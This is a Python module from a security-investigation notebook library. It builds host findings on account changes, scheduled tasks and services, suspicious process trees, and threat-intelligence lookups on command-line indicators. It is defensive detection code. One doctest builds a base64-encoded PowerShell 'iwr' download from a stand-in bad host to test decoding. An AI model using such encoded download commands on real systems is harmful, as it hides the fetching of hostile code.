"""What changed on a host and what its commands reached: host_summary's deeper steps.

- `account_changes`: accounts created, enabled, added to groups, ... (msticpy's
  `WindowsSecurity.account_change_events`), worded by `winevents.account_events`.
- `tasks_and_services`: scheduled tasks and services created (Security 4698/4700/
  4702/4697 via `WindowsSecurity.schdld_tasks_and_services`, System-log 7045 from the
  Event table on the embedded store), each with the command it runs.
- `suspicious_trees`: the process trees of the logon sessions that ran a suspicious
  command line (trees built by `rarity.process_tree`).
- `cmdline_ti`: indicators (URLs, domains, addresses, hashes) in the host's command
  lines, PowerShell `-EncodedCommand` arguments decoded, looked up in one TI call.

Example (in a template):
    changes = nblib.hostactivity.account_changes(inv, found.name)
    tasks = nblib.hostactivity.tasks_and_services(inv, found.name)
    ti = nblib.hostactivity.cmdline_ti(inv, nblib.hostactivity.command_lines(inv, found.name))
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from defusedxml import ElementTree as SafeET
from defusedxml.common import DefusedXmlException

from nbcatalog.nblib.entities import host_matches
from nbcatalog.nblib.findings import Finding
from nbcatalog.nblib.processes import (
    LOG_4688,
    device_processes,
    join_processes,
    linux_commands,
    reasons_per_row,
    suspicious_reasons,
    with_log,
)
from nbcatalog.nblib.winevents import ACCOUNT_COLUMNS, account_events, parse_event_data

TASK_COLUMNS = [
    "TimeGenerated",
    "Computer",
    "Type",
    "Name",
    "Command",
    "Account",
    "StartType",
    "EventID",
    "Log",
    "Reasons",
]
TREE_COLUMNS = [
    "LogonId",
    "Account",
    "Process",
    "CommandLine",
    "TimeGenerated",
    "Reasons",
    "Depth",
    "ParentProcessName",
]
COMMAND_COLUMNS = ["TimeGenerated", "Source", "Account", "CommandLine"]
IOC_COLUMNS = ["Ioc", "IocType", "Decoded", "Commands", "FirstSeen", "CommandLine"]
CMDLINE_TI_COLUMNS = [
    "Ioc",
    "IocType",
    "Result",
    "Severity",
    "Provider",
    "Details",
    "Decoded",
    "CommandLine",
]
MAX_TREES = 5
_SERVICE_SQL = (
    'SELECT TimeGenerated, Computer, EventID, UserName, EventData FROM "Event" '
    "WHERE EventID = 7045 AND TimeGenerated >= $start AND TimeGenerated <= $end "
    "AND contains(lower(Computer), $host) ORDER BY TimeGenerated"
)


def _on_host(frame: pd.DataFrame, host: str) -> pd.DataFrame:
    """Rows whose Computer is `host` (queries match `has`, which is looser)."""
    if frame.empty or "Computer" not in frame.columns:
        return frame
    # One match per distinct name: the rows of a host repeat a handful of names.
    names = frame["Computer"].astype(str)
    matching = {n for n in names.unique() if host_matches(host, n)}
    return frame[names.isin(matching)]


def account_changes(inv: Any, host: str | None) -> Finding:
    """Account-management events on `host`: who created, enabled, grouped whom.

    Example:
        account_changes(inv, "WKSTN-042").data["Description"]
        # CONTOSO\\bob created user WKSTN-042\\svc_backup, ... added ... to Administrators
    """
    finding = Finding("Account changes", columns=ACCOUNT_COLUMNS[:3] + ACCOUNT_COLUMNS[-1:])
    finding.data = pd.DataFrame(columns=ACCOUNT_COLUMNS)
    if not host:
        finding.note("skipped", "no single host selected (see above)")
        return finding
    found = inv.query("WindowsSecurity.account_change_events", title=finding.title, host_name=host)
    finding.notes += found.notes
    finding.data = account_events(_on_host(found.data, host))
    if not finding.empty:
        finding.note("finding", f"{len(finding.data)} account change(s) on {host}")
    elif not finding.notes:
        finding.note("info", f"no account changes on {host} in {inv.period}")
    return finding


def task_command(task_xml: Any) -> str:
    """The command a scheduled task runs (Exec Command + Arguments), from its XML.

    Hostile or broken XML gives "" (parsed with defusedxml: no entities, no DTD).

    Example:
        >>> task_command('<Task><Actions><Exec><Command>a.exe</Command>'
        ...              '<Arguments>-x 1</Arguments></Exec></Actions></Task>')
        'a.exe -x 1'
    """
    if not isinstance(task_xml, str) or not task_xml.strip() or len(task_xml) > 65536:
        return ""
    # The XML declaration names UTF-16 while the text is already decoded.
    text = task_xml.split("?>", 1)[1] if task_xml.lstrip().startswith("<?xml") else task_xml
    try:
        root = SafeET.fromstring(text)
    except (SafeET.ParseError, DefusedXmlException, ValueError):
        return ""
    commands = []
    for element in root.iter():
        if str(element.tag).rpartition("}")[2] != "Exec":
            continue
        parts = {str(c.tag).rpartition("}")[2]: (c.text or "").strip() for c in element}
        commands.append(" ".join(p for p in (parts.get("Command"), parts.get("Arguments")) if p))
    return " ; ".join(c for c in commands if c)


def _security_tasks(rows: pd.DataFrame) -> pd.DataFrame:
    def col(name: str) -> pd.Series:
        return rows[name] if name in rows.columns else pd.Series(None, index=rows.index)

    is_service = col("Type").astype(str) == "Service"
    names = col("ServiceName").where(is_service & col("ServiceName").notna(), col("Service"))
    commands = col("ServiceFileName").where(
        is_service, col("ScheduledTaskDetails").map(task_command)
    )
    return pd.DataFrame(
        {
            "TimeGenerated": col("TimeGenerated"),
            "Computer": col("Computer"),
            "Type": col("Type"),
            "Name": names,
            "Command": commands,
            "Account": col("Account"),
            "StartType": col("ServiceStartType"),
            "EventID": pd.to_numeric(col("EventID"), errors="coerce"),
            "Log": "Security",
        }
    )


def _system_services(inv: Any, host: str, finding: Finding) -> pd.DataFrame:
    """7045 service installs from the System log (Event table); embedded store only."""
    from nbcatalog.data.source import is_embedded_store
    from nbcatalog.errors import DataSourceError
    from nbcatalog.nblib.queries import has_table

    if not is_embedded_store(inv.source):
        finding.note(
            "skipped", "System-log service installs (7045) are read on the embedded store only"
        )
        return pd.DataFrame()
    if has_table(inv.source, "Event") is False:
        finding.note("missing", "no Event table in this data source: System-log 7045 not read")
        return pd.DataFrame()
    params = {"start": inv.start, "end": inv.end, "host": host.lower()}
    try:
        rows = _on_host(inv.source.sql(_SERVICE_SQL, params), host)
    except DataSourceError as exc:
        finding.note("missing", f"the Event table could not be read: {str(exc).splitlines()[0]}")
        return pd.DataFrame()
    fields = [parse_event_data(x) for x in rows["EventData"]]
    return pd.DataFrame(
        {
            "TimeGenerated": rows["TimeGenerated"].tolist(),
            "Computer": rows["Computer"].tolist(),
            "Type": "Service",
            "Name": [f.get("ServiceName") for f in fields],
            "Command": [f.get("ImagePath") for f in fields],
            "Account": rows["UserName"].tolist(),
            "StartType": [f.get("StartType") for f in fields],
            "EventID": 7045,
            "Log": "System",
        }
    )


def tasks_and_services(inv: Any, host: str | None) -> Finding:
    """Scheduled tasks and services created on `host`, with the command each runs.

    The same service install seen in both the Security (4697) and System (7045)
    logs is one row per log: the Log column says which.
    """
    finding = Finding("Scheduled tasks and services", columns=TASK_COLUMNS)
    finding.data = pd.DataFrame(columns=TASK_COLUMNS)
    if not host:
        finding.note("skipped", "no single host selected (see above)")
        return finding
    found = inv.query(
        "WindowsSecurity.schdld_tasks_and_services", title=finding.title, host_name=host
    )
    finding.notes += found.notes
    frames = [_security_tasks(_on_host(found.data, host))] if not found.empty else []
    system = _system_services(inv, host, finding)
    if not system.empty:
        frames.append(system)
    frames = [f for f in frames if not f.empty]
    if not frames:
        if not finding.notes:
            finding.note(
                "info", f"no scheduled tasks or services created on {host} in {inv.period}"
            )
        return finding
    data = pd.concat(frames, ignore_index=True)
    data["TimeGenerated"] = pd.to_datetime(data["TimeGenerated"], utc=True)
    data["Reasons"] = data["Command"].map(lambda c: ", ".join(suspicious_reasons(c)))
    finding.data = data.sort_values("TimeGenerated", kind="stable")[TASK_COLUMNS].reset_index(
        drop=True
    )
    flagged = int((finding.data["Reasons"] != "").sum())
    finding.note(
        "finding" if flagged else "info",
        f"{len(finding.data)} task/service creation(s) on {host}"
        + (f", {flagged} running a suspicious command" if flagged else ""),
    )
    return finding


def host_processes(inv: Any, host: str | None) -> Finding:
    """Process creations on `host`: Windows 4688 and Defender's DeviceProcessEvents.

    Defender's rows are given the 4688 columns (`processes.defender_process_rows`), so
    trees, command lines and TI read both; the Log column says where each row came
    from ("SecurityEvent 4688" or "DeviceProcessEvents"). A source with neither the
    4688 query's table nor Defender's keeps the 4688 note; one without Defender says
    nothing of it (most estates have one or the other).

    Example (in a template):
        processes = nblib.hostactivity.host_processes(inv, "WKSTN-042")
        processes.data.groupby("Log").size()   # rows per log
    """
    finding = Finding("Process creations")
    if not host:
        finding.note("skipped", "no single host selected (see above)")
        return finding
    found = inv.query("WindowsSecurity.list_host_processes", title=finding.title, host_name=host)
    defender = device_processes(inv, host, finding.title)
    if not (found.missing and not defender.missing):  # Defender's rows stand in for 4688
        finding.notes += found.notes
    finding.data = join_processes(with_log(_on_host(found.data, host), LOG_4688), defender.data)
    return finding


def suspicious_trees(processes: pd.DataFrame, top: int = MAX_TREES) -> Finding:
    """Process trees of the logon sessions that ran a suspicious command line.

    Sessions are ordered by how many suspicious commands they ran; at most `top`.
    The Reasons column marks the suspicious processes in each tree.
    """
    from nbcatalog.nblib.rarity import process_tree, session_ids

    finding = Finding("Process trees of sessions with suspicious commands", columns=None)
    finding.columns = ["LogonId", "Account", "Process", "CommandLine", "TimeGenerated", "Reasons"]
    finding.max_rows = 200
    finding.data = pd.DataFrame(columns=TREE_COLUMNS)
    if processes is None or processes.empty or "CommandLine" not in processes.columns:
        finding.note(
            "info", "no process creations (4688 or DeviceProcessEvents) to build trees from"
        )
        return finding
    frame = processes.assign(LogonId=session_ids(processes))
    frame = frame.assign(Reasons=reasons_per_row(frame["CommandLine"]).map(", ".join))
    counts = frame[frame["Reasons"] != ""].groupby("LogonId").size()
    if counts.empty:
        finding.note("info", f"none of {len(frame)} process command lines matched a rule")
        return finding
    wanted = counts.sort_values(ascending=False, kind="stable").head(max(int(top), 0)).index
    trees = []
    for logon_id in wanted:
        session = frame[frame["LogonId"] == logon_id]
        tree = process_tree(session)
        tree["Reasons"] = reasons_per_row(tree["CommandLine"]).map(", ".join)
        tree["Account"] = ", ".join(sorted({str(a) for a in session.get("Account", []) if a}))
        tree["LogonId"] = logon_id
        trees.append(tree)
    finding.data = pd.concat(trees, ignore_index=True)[TREE_COLUMNS]
    finding.note(
        "finding",
        f"{len(counts)} logon session(s) ran suspicious commands; the trees of "
        f"{len(wanted)} are shown",
    )
    return finding


def command_lines(
    inv: Any,
    host: str | None,
    os_family: str | None = None,
    *,
    processes: pd.DataFrame | None = None,
    tasks: pd.DataFrame | None = None,
) -> pd.DataFrame:
    """Every command line seen on `host`: processes (4688 and Defender's process events),
    Linux shell/sudo commands, and what created scheduled tasks and services run.
    Columns COMMAND_COLUMNS.

    Pass already-read `processes` / `tasks` frames to avoid querying again.
    """
    frames = []
    if host and os_family != "Linux":
        data = processes if processes is not None else host_processes(inv, host).data
        if not data.empty and "CommandLine" in data.columns:
            frames.append(
                pd.DataFrame(
                    {
                        "TimeGenerated": data["TimeGenerated"],
                        "Source": "process",
                        "Account": data.get("Account"),
                        "CommandLine": data["CommandLine"],
                    }
                )
            )
    if host and os_family != "Windows":
        syslog = inv.query("LinuxSyslog.all_syslog", host_name=host).data
        linux = linux_commands(_on_host(syslog, host))
        if not linux.empty:
            frames.append(linux.assign(Source="shell or sudo")[COMMAND_COLUMNS])
    if tasks is not None and not tasks.empty:
        frames.append(
            pd.DataFrame(
                {
                    "TimeGenerated": tasks["TimeGenerated"],
                    "Source": tasks["Type"].astype(str).str.lower(),
                    "Account": tasks["Account"],
                    "CommandLine": tasks["Command"],
                }
            )
        )
    frames = [f for f in frames if not f.empty]
    if not frames:
        return pd.DataFrame(columns=COMMAND_COLUMNS)
    data = pd.concat(frames, ignore_index=True)
    data["TimeGenerated"] = pd.to_datetime(data["TimeGenerated"], utc=True)
    return data[COMMAND_COLUMNS].reset_index(drop=True)


def command_iocs(commands: pd.DataFrame) -> pd.DataFrame:
    """Indicators in the command lines, one row each (IOC_COLUMNS).

    `Decoded` is True for an indicator found only after decoding a PowerShell
    `-EncodedCommand` argument; `CommandLine` is the first command naming it.

    Example:
        >>> import base64
        >>> enc = base64.b64encode("iwr http://bad.example/x".encode("utf-16-le")).decode()
        >>> cmds = pd.DataFrame({"TimeGenerated": [pd.Timestamp(0, tz="UTC")],
        ...     "Source": ["process"], "Account": ["bob"],
        ...     "CommandLine": [f"powershell -enc {enc}"]})
        >>> command_iocs(cmds)[["Ioc", "Decoded"]].values.tolist()[0]
        ['http://bad.example/x', True]
    """
    from nbcatalog.enrich.iocs import extract_iocs

    if commands is None or commands.empty:
        return pd.DataFrame(columns=IOC_COLUMNS)
    texts = commands["CommandLine"].reset_index(drop=True)
    # Extract once per distinct command line (a busy host repeats the same lines
    # thousands of times), then map the indicators back to every row naming them.
    codes, distinct = pd.factorize(texts, use_na_sentinel=False)
    distinct = pd.Series(distinct, dtype=object)
    found = extract_iocs(distinct, types=["url", "dns", "ipv4", "ipv6", "hash"])
    if found.empty:
        return pd.DataFrame(columns=IOC_COLUMNS)
    plain = extract_iocs(distinct, types=["url", "dns", "ipv4", "ipv6", "hash"], decode=False)
    seen_plainly = set(zip(plain["Ioc"], plain["SourceIndex"], strict=True))
    found = found.assign(
        Decoded=[
            (i, s) not in seen_plainly
            for i, s in zip(found["Ioc"], found["SourceIndex"], strict=True)
        ]
    )
    rows = pd.DataFrame(
        {
            "SourceIndex": codes,
            "Row": range(len(texts)),
            "t": pd.to_datetime(commands["TimeGenerated"], utc=True).to_numpy(),
            "CommandLine": texts.to_numpy(),
        }
    )
    found = found[["Ioc", "IocType", "SourceIndex", "Decoded"]].merge(rows, on="SourceIndex")
    # The order extracting row by row gave: by row, then by place in the line.
    found = found.sort_values("Row", kind="stable")
    table = (
        found.sort_values("t", kind="stable")
        .groupby(["Ioc", "IocType"], sort=False)
        .agg(
            Decoded=("Decoded", "all"),
            Commands=("Row", "nunique"),
            FirstSeen=("t", "min"),
            CommandLine=("CommandLine", "first"),
        )
        .reset_index()
    )
    return table[IOC_COLUMNS]


def _worth_looking_up(ioc: str, ioc_type: str) -> bool:
    if ioc_type not in ("ipv4", "ipv6"):
        return True
    from nbcatalog.enrich.ipclass import classify_ip

    try:
        return classify_ip(ioc) == "public" or classify_ip(ioc) == "documentation"
    except ValueError:
        return False


def cmdline_ti(inv: Any, commands: pd.DataFrame) -> Finding:
    """Threat intelligence on the indicators in `commands` (from `command_lines`).

    Every indicator is looked up in one `lookup_iocs` call; internal addresses are
    left out. The data has lookup_iocs' columns plus Decoded and CommandLine.
    """
    from nbcatalog.nblib.ipinfo import TI_TABLE, _has_table

    finding = Finding("Threat intelligence on command-line indicators", columns=CMDLINE_TI_COLUMNS)
    finding.data = pd.DataFrame(columns=CMDLINE_TI_COLUMNS)
    iocs = command_iocs(commands)
    if iocs.empty:
        finding.note("info", f"no URLs, domains, addresses or hashes in {len(commands)} commands")
        return finding
    wanted = iocs[
        [_worth_looking_up(i, t) for i, t in zip(iocs["Ioc"], iocs["IocType"], strict=True)]
    ]
    if len(wanted) < len(iocs):
        finding.note("skipped", f"{len(iocs) - len(wanted)} internal address(es) not looked up")
    from nbcatalog.enrich.settings import current_settings

    if not current_settings().ti.providers and not _has_table(inv.source, TI_TABLE):
        finding.note("missing", f"no {TI_TABLE} table in this data source, so no TI look-up")
        return finding
    from nbcatalog.enrich.ti import lookup_iocs

    ti = lookup_iocs(list(wanted["Ioc"]), data_source=inv.source, end=inv.end)
    extra = wanted.set_index("Ioc")[["Decoded", "CommandLine"]]
    ti = ti.join(extra, on="Ioc")
    finding.data = ti.reset_index(drop=True)
    hits = ti[ti["Result"].astype(bool)]
    if hits.empty:
        finding.note("info", f"no TI provider lists any of the {len(wanted)} indicator(s)")
    else:
        decoded = sorted(hits.loc[hits["Decoded"].fillna(False).astype(bool), "Ioc"].unique())
        finding.note(
            "finding",
            f"{hits['Ioc'].nunique()} command-line indicator(s) listed by threat intelligence: "
            + ", ".join(sorted(hits["Ioc"].unique())[:10])
            + (f" ({', '.join(decoded[:5])} hidden in an encoded command)" if decoded else ""),
        )
    return finding
